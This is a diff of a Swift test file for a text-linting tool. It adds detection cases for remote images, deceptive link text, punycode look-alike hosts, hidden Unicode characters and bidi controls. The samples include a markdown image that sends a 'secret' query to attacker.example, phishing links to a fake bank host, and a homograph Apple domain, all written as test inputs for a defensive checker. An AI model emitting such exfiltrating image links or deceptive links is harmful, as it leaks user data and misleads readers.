@@ -58,7 +58,7 @@ struct RuleTests {
              // The second formula cannot be read as math: it is read as its TeX, which math-unreadable reports.
              closeMiss: "$$\\sum_{i=1}^{n} \\frac{a_i + b_i}{c_i - d_i}$$\n\n$$\\foo " + String(repeating: "a + ", count: 40) + "b$$"),
         Case(rule: "math-unreadable", triggering: "$\\frac{a}{b$ and $\\foo x$ and $\\left( x$", expectedStarts: ["1:1", "1:18", "1:31"],
-             closeMiss: "$\\frac{a}{b}$ and $\\mathbb{R}^n$ and $\\left( x \\right)$ and $a \\\\ b$ and $\\begin{matrix} 1 \\end{matrix}$"),
+             closeMiss: "$\\frac{a}{b}$ and $\\mathbb{R}^n$ and $\\left( x \\right)$ and $a \\\\ b$ and $\\begin{matrix} 1 \\end{matrix}$ and $x\u{200B}+1$"),
         Case(rule: "emoji-bullets", triggering: "✅ Fast\n✅ Small\n❌ Simple", expectedStarts: ["1:1"],
              closeMiss: "✅ Fast and small.\n\n- ✅ Fast\n- ✅ Small\n\nIt is #1\n2 ways"),
         Case(rule: "emoji-run", triggering: "Rating: ⭐⭐⭐⭐ and 🔥 🔥 🔥", expectedStarts: ["1:9", "1:26"],
@@ -74,6 +74,23 @@ struct RuleTests {
              closeMiss: "Light is fast.[^speed]\n\n[^speed]: 300,000 km/s."),
         Case(rule: "language-change-unmarked", triggering: "The greeting is Добро пожаловать в Москву, as they say in Russia.", expectedStarts: ["1:17"],
              closeMiss: "The greeting is <span lang=\"ru\">Добро пожаловать в Москву</span>.\n\nThe letter π and the name Пётр are terms."),
+        Case(rule: "image-remote", triggering: "![chart](https://attacker.example/log?q=secret)\n\n<img src=\"//cdn.example/a.png\" alt=\"a\">",
+             expectedStarts: ["1:1", "3:1"],
+             closeMiss: "![chart](chart.png) ![dot](data:image/png;base64,iVBORw0KGgo=) <img src=\"b.png\" alt=\"b\">"),
+        Case(rule: "link-text-deceptive",
+             triggering: "[https://bank.example.com/login](https://bank-example.attacker.test/login) and [support@bank.example](mailto:x@evil.test)",
+             expectedStarts: ["1:1", "1:80"],
+             closeMiss: "[example.com](https://docs.example.com/) [README.md](https://github.com/o/r/blob/main/README.md) [Node.js](https://nodejs.org/)"),
+        Case(rule: "link-host-look-alike", triggering: "[Apple](https://xn--pple-43d.com/) and [аpple.com](https://xn--pple-43d.com/)",
+             expectedStarts: ["1:1", "1:40"],
+             closeMiss: "[München](https://xn--mnchen-3ya.de/) and [пример](https://пример.рф/) and [apple.com](https://apple.com/)"),
+        Case(rule: "hidden-text", triggering: "Fine.\u{E0049}\u{E0067}\n\n`pass\u{200B}word`\n\nSum $x\u{200B}+\u{202E}1$", expectedStarts: ["1:1", "3:1", "5:5"],
+             closeMiss: "می‌خواهم 👨‍👩‍👧 Donau\u{AD}dampf ☺\u{FE0F} 🏴󠁧󠁢󠁳󠁣󠁴󠁿"),
+        Case(rule: "bidi-control-in-code", triggering: "`a\u{202E}b`\n\n```\nx\u{2066}y\n```", expectedStarts: ["1:1", "3:1"],
+             closeMiss: "Say \u{2067}שלום\u{2069} and `\"שלום\"`"),
+        Case(rule: "bidi-control-unbalanced", triggering: "Total: \u{202E}0001\u{202C} dollars\n\nOpen \u{2067}never closed",
+             expectedStarts: ["1:1", "3:1"],
+             closeMiss: "The word \u{2067}שלום\u{2069} means peace; מחיר: 5\u{200F}$"),
     ]
 
     @Test("triggers", arguments: cases)
